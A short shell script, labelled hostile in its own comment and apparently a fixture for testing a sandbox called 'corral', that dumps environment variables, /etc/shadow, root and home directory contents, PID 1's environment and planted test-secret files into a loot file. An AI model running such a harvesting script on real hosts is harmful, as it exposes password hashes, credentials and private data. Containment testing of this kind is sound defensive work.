#!/bin/sh
# Hostile: collect every secret of the host it can read into /workspace/loot.txt.
{
  echo "== env"; env
  echo "== shadow"; cat /etc/shadow
  echo "== root"; ls -la /root; cat /root/.corral-test-secret-* 
  echo "== home"; ls -la /home
  echo "== data"; for f in $1; do cat "$f"; done
  echo "== proc 1 environ"; tr '\0' '\n' < /proc/1/environ
  echo "== find"; find / -xdev -name 'corral.db' -o -xdev -name '.corral-test-secret-*' 2>/dev/null
} > /workspace/loot.txt 2>&1
exit 0
